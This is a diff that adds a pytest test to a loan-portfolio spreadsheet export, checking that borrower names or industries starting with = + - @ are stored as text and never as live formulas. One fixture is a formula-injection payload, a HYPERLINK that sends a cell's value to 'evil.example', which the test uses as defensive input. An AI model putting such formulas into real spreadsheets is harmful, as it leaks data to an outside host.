@@ -72,3 +72,37 @@ def test_the_spreadsheet_has_the_filtered_cases_and_a_summary_with_a_total(
     # total: 200,000 + 300,000.50 = 500,000.50
     assert D(str(summary["amount"].iloc[-1])) == D("500000.5")
     assert not list(tmp_path.glob(".*.part"))
+
+
+def test_the_spreadsheet_writes_formula_leading_text_as_text_and_amounts_as_numbers(
+    engine: Engine, tmp_path: Path
+) -> None:
+    """Issue 20, defect 3: a borrower name or industry beginning with = + - @
+    is a string cell in both sheets, never a live formula."""
+    import openpyxl
+
+    store = SqlCaseStore(engine, default_branch="3301")
+    case = Case(branch="3301")
+    case.applicant.registered_name = '=HYPERLINK("http://evil.example/?"&B2,"x")'
+    case.business.industry = "@SUM(1+1)"
+    case.loan.amount = D("-1200.50")
+    stored = store.create(case, REVIEWER)
+    with engine.begin() as conn:
+        conn.execute(
+            text("INSERT INTO ho_case_meta VALUES (:u, '3301', '-王小明', 'fp', now())"),
+            {"u": stored.uuid},
+        )
+    path = tmp_path / "portfolio.xlsx"
+    assert export_portfolio(engine, path) == 1
+    book = openpyxl.load_workbook(path)
+    sheet = book["cases"]
+    header = [c.value for c in sheet[1]]
+    row = dict(zip(header, sheet[2], strict=True))
+    assert (row["name"].data_type, row["name"].value) == ("s", case.applicant.registered_name)
+    assert (row["industry"].data_type, row["industry"].value) == ("s", "@SUM(1+1)")
+    assert (row["officer"].data_type, row["officer"].value) == ("s", "-王小明")
+    assert row["amount"].data_type == "n" and D(str(row["amount"].value)) == D("-1200.50")
+    summary = book["summary"]
+    assert summary["B2"].value == "@SUM(1+1)" and summary["B2"].data_type == "s"
+    formulas = [c for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]
+    assert formulas == []
